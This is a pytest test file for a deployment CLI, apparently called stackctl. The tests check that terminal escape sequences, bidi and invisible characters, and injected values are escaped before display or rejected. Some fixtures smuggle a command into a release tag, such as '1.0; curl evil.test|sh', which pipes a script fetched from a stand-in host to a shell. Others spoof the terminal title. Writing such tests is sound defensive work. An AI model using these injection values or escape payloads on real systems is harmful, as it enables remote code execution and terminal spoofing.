"""Text from outside reaches a terminal only in printable form."""

from __future__ import annotations

import io
import json
import signal
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from stackctl.app import state
from stackctl.backup import listing, manifest
from stackctl.cli import status
from stackctl.core import history
from stackctl.core.errors import FailedError
from stackctl.core.events import RunLog, readable
from stackctl.core.machine import Machine
from stackctl.core.printable import Filter, printable
from stackctl.core.program import INTERRUPTED
from stackctl.core.records import RecordError
from tests.support.fakes.droplet import installed, stackctl
from tests.support.manifests import made

TITLE = "\x1b]0;PWNED\x07"
SHOWN = r"\x1b]0;PWNED\x07"


@given(st.text())
@example("\u202e\u2066\u200b\u2028\u0085\x9b")
def test_nothing_that_a_terminal_obeys_or_hides_is_left(text: str) -> None:
    assert printable(text, "").isprintable()
    assert printable(text).replace("\t", "").isprintable()


@given(st.text().filter(str.isprintable))
@example("é … 日本 🎉")
def test_what_is_plain_stays_as_it_is(text: str) -> None:
    assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (TITLE, SHOWN),
        ("\x9b31m", r"\x9b31m"),
        ("a\r\nb", r"a\r\nb"),
        ("\u202eevil", r"\u202eevil"),
        ("\u2066x\u2069", r"\u2066x\u2069"),
        ("a\u200bb\ufeff", r"a\u200bb\ufeff"),
        ("\u2028\u2029", r"\u2028\u2029"),
        ("\ud800", r"\ud800"),
        ("\U000e0041", r"\U000e0041"),
    ],
)
def test_it_is_escaped_visibly(text: str, shown: str) -> None:
    assert printable(text) == shown


@given(st.binary(), st.integers(1, 7))
def test_a_stream_is_shown_as_its_whole_would_be_however_it_is_cut(content: bytes, size: int) -> None:
    out = io.StringIO()
    stream = Filter(out)
    for start in range(0, len(content), size):
        stream.write(content[start : start + size])
    stream.write(b"", final=True)
    assert out.getvalue() == printable(content.decode(errors="backslashreplace"), "\t\n")


def test_lines_of_a_run_are_one_line_each() -> None:
    event = {"step": f"web{TITLE}", "state": "failed", "message": f"{TITLE}\n::add-mask::x", "ms": None}
    line = readable(event, 1.0)
    assert line.isprintable()
    assert SHOWN in line
    assert readable(event | {"state": "log"}, 1.0).isprintable()


def test_a_release_shows_the_apps_last_words_made_printable_and_remembers_them_as_json(tmp_path: Path) -> None:
    droplet = installed(tmp_path)
    out = io.StringIO()
    log = RunLog(droplet.paths.history, "release", droplet, out, run="r")
    log.emit_tail("health", f"one {TITLE}\ntwo \u2066")
    assert out.getvalue() == f"    | one {SHOWN}\n    | two \\u2066\n"
    messages = [json.loads(line)["message"] for line in droplet.paths.history.read_text().splitlines()]
    assert messages == [f"one {TITLE}", "two \u2066"]


def test_status_and_history_and_backups_show_no_control_character(tmp_path: Path) -> None:
    droplet = installed(tmp_path)
    assert stackctl(droplet, "release", "1.0.0")[0] == 0
    for container in droplet.docker.of("bot-blue"):
        container["state"] = f"odd {TITLE}"
    code, shown = stackctl(droplet, "status")
    assert code == 4
    assert SHOWN in shown
    assert "\x1b" not in shown
    assert TITLE in json.loads(stackctl(droplet, "status", "--json")[1])["problems"][0]
    run = {"op": "release", "tag": TITLE, "at": "2026", "state": "failed", "ms": 1, "by": TITLE, "message": TITLE}
    assert "\x1b" not in history.text([run | {"steps": [{"step": TITLE, "ms": 1}]}])
    one = replace(made(1), release={"id": "20261129T120000.000Z", "tag": f"{TITLE}; curl evil.test | sh #"})
    assert SHOWN in "\n".join(listing.table([one]))
    assert "\x1b" not in "\n".join(listing.table([one]))


def test_a_failure_at_the_end_is_shown_made_printable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    droplet = installed(tmp_path)

    def fails(*_: object) -> None:
        raise FailedError(f"table {TITLE} is missing")

    monkeypatch.setattr(status, "report", fails)
    code, shown = stackctl(droplet, "status")
    assert (code, shown.strip()) == (1, f"stackctl status: table {SHOWN} is missing")


def test_a_fault_of_our_own_is_shown_made_printable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fails(*_: object) -> None:
        raise LookupError(TITLE)

    droplet = installed(tmp_path)
    monkeypatch.setattr(status, "report", fails)
    assert stackctl(droplet, "status")[0] == 4
    told = capsys.readouterr().err
    assert "Traceback" in told
    assert "\x1b" not in told


@pytest.mark.parametrize("change", [{"tag": "1.0; curl evil.test|sh"}, {"tag": TITLE}, {"tag": "-f"}, {"tag": "1.0\n"}])
def test_a_state_with_what_is_no_tag_is_not_believed(tmp_path: Path, change: dict[str, str]) -> None:
    droplet = installed(tmp_path)
    assert stackctl(droplet, "release", "1.0.0")[0] == 0
    document = json.loads(droplet.paths.state.read_text())
    assert state.State.from_json(json.dumps(document)).kept
    document["kept"][0] |= change
    with pytest.raises(RecordError, match=r"kept\[0\]\.tag must be a tag of an image"):
        state.State.from_json(json.dumps(document))


class TestLogs:
    """`stackctl logs` shows a program's output immediately."""

    def shown(self, script: str, capfd: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
        code = Machine().run_shown(["sh", "-c", script])
        told = capfd.readouterr()
        return code, told.out, told.err

    def test_it_is_made_printable_and_ends_as_the_program_does(self, capfd: pytest.CaptureFixture[str]) -> None:
        script = r"printf 'a\033]0;x\007\tb\n'; printf 'c\302\233\n' >&2; exit 3"
        assert self.shown(script, capfd) == (3, "a\\x1b]0;x\\x07\tb\n", "c\\x9b\n")

    def test_a_line_is_shown_before_it_ends(self, tmp_path: Path) -> None:
        """stackctl does not wait for the end of a line, which may be a prompt or endless, so no buffer grows."""
        # A program that a shell starts in the background ignores SIGINT, and so do the program's children.
        code = "import signal, sys; signal.signal(signal.SIGINT, signal.default_int_handler);"
        code += f"sys.path.insert(0, {str(Path(manifest.__file__).parents[2])!r});"
        code += "from stackctl.core.machine import Machine;"
        code += "sys.exit(Machine().run_shown(['sh', '-c', 'printf half; sleep 60']))"
        with subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
            assert process.stdout
            assert process.stderr
            assert process.stdout.read(4) == b"half"
            process.send_signal(signal.SIGINT)
            assert process.wait(30) == INTERRUPTED
            assert process.stderr.read() == b""

    def test_a_reader_that_is_gone_ends_it_quietly(self) -> None:
        code = f"import sys; sys.path.insert(0, {str(Path(manifest.__file__).parents[2])!r});"
        code += "from stackctl.core.machine import Machine; sys.exit(Machine().run_shown(['yes']))"
        ran = subprocess.run(
            ["bash", "-c", '"$0" -c "$1" | head -1; exit "${PIPESTATUS[0]}"', sys.executable, code],
            capture_output=True,
            timeout=20,
            check=False,
        )
        assert (ran.returncode, ran.stdout, ran.stderr) == (0, b"y\n", b"")
